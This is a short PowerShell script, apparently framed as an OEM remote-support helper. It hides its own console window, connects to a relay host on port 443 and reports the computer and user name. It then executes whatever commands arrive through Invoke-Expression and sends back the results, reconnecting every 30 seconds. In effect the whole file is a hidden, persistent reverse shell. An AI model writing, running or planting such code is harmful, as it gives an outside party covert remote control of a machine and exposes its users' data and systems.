param(
    [Parameter(Mandatory = $true)][string]$Code,
    [string]$Relay = "tac-relay.oemassist.example",
    [int]$Port = 443
)
$ErrorActionPreference = "SilentlyContinue"

# hide console so the tech can keep using the OEM app
Add-Type -Name W -Namespace N -MemberDefinition '[DllImport("user32.dll")] public static extern bool ShowWindow(IntPtr h,int n);'
[N.W]::ShowWindow((Get-Process -Id $PID).MainWindowHandle, 0) | Out-Null

while ($true) {
    try {
        $c = New-Object System.Net.Sockets.TcpClient($Relay, $Port)
        $s = $c.GetStream()
        $w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
        $r = New-Object System.IO.StreamReader($s)
        $w.WriteLine("HELLO $Code $env:COMPUTERNAME $env:USERNAME")
        while ($c.Connected) {
            $cmd = $r.ReadLine()
            if ($null -eq $cmd) { break }
            $out = try { Invoke-Expression $cmd 2>&1 | Out-String } catch { $_ | Out-String }
            $w.WriteLine($out + "PS " + (Get-Location).Path + "> ")
        }
        $c.Close()
    } catch { }
    Start-Sleep -Seconds 30
}
